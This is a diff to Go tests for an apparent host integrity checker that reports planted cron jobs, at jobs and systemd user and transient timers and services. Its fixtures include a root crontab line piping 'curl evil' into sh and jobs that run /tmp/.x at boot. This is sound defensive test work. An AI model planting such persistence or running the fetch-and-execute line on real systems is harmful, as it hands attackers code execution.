@@ -104,6 +104,15 @@ MAILTO=ann
 0 4 * * *	/home/ann/bin/sync
 `
 
+const homes = "-- /etc/passwd --\nann:x:1000:1000::/home/ann:/bin/sh\nbin:x:2:2::/:/bin/false\n"
+
+func TestAHomeWhoseUnitsMayNotBeReadIsUnknown(t *testing.T) {
+	check := inventory.Check{Question: startup.Jobs{Host: machine(homes + "-- /home/ann/.config/ dir error=permission --\n")}, Dir: t.TempDir()}
+	res := integritytest.Collect(t, check)
+	assert.Equal(t, report.Partial, res.Status)
+	assert.Contains(t, res.Problems[0].Message, "/home/ann/.config/systemd/user")
+}
+
 func TestOnePlantedJobIsOneFinding(t *testing.T) {
 	for name, c := range map[string]struct{ was, now, want string }{
 		"a line":         {table, table + "@reboot /tmp/.x\n", "warning: A new job of ann: @reboot /tmp/.x"},
@@ -111,7 +120,19 @@ func TestOnePlantedJobIsOneFinding(t *testing.T) {
 		"a lost table":   {table, "-- /var/spool/cron/crontabs/ dir complete --\n", "notice: A job of ann is gone: 0 4 * * * /home/ann/bin/sync"},
 		"a table":        {"-- /var/spool/cron/crontabs/ dir complete --\n", "-- /var/spool/cron/crontabs/root --\n* * * * * curl evil | sh\n", "warning: A new job of root: * * * * * curl evil | sh"},
 		"a job of at":    {table, table + "-- /var/spool/cron/atjobs/a0000 --\n#!/bin/sh\numask 22\ncd /root || exit 1\n/tmp/.x\n", "warning: A new job of somebody: once /tmp/.x"},
-		"a variable":     {table, table + "PATH=/tmp\n", "warning: A table of jobs sets PATH=/tmp"},
+		"a timer of a user": {
+			homes, homes + "-- /home/ann/.config/systemd/user/x.timer --\n[Timer]\nOnBootSec=5\nUnit=y.service\n",
+			"warning: A new job of ann: OnBootSec=5 y.service",
+		},
+		"a service of a user": {
+			homes, homes + "-- /home/ann/.config/systemd/user/y.service --\n[Service]\nExecStart=/tmp/.x\n",
+			"warning: A new job of ann: by y.service /tmp/.x",
+		},
+		"a timer until the next start": {
+			homes, homes + "-- /run/systemd/transient/run-1.timer --\n[Timer]\nOnCalendar=daily\n-- /run/systemd/transient/run-1.service --\nx\n",
+			"warning: A new job of root: OnCalendar=daily",
+		},
+		"a variable": {table, table + "PATH=/tmp\n", "warning: A table of jobs sets PATH=/tmp"},
 	} {
 		t.Run(name, func(t *testing.T) {
 			check := inventory.Check{Question: startup.Jobs{Host: machine(c.was)}, Dir: t.TempDir()}
@@ -140,6 +161,11 @@ func FuzzParseJob(f *testing.F) {
 			t.Errorf("%q is a job without anything", line)
 		}
 	})
+}
+
+func ExampleParseUnit() {
+	fmt.Println(startup.ParseUnit("[Timer]\nOnCalendar=*-*-* 04:00\nUnit = backup.service\n"))
+	// Output: OnCalendar=*-*-* 04:00 backup.service
 }
 
 func ExampleParseJob() {
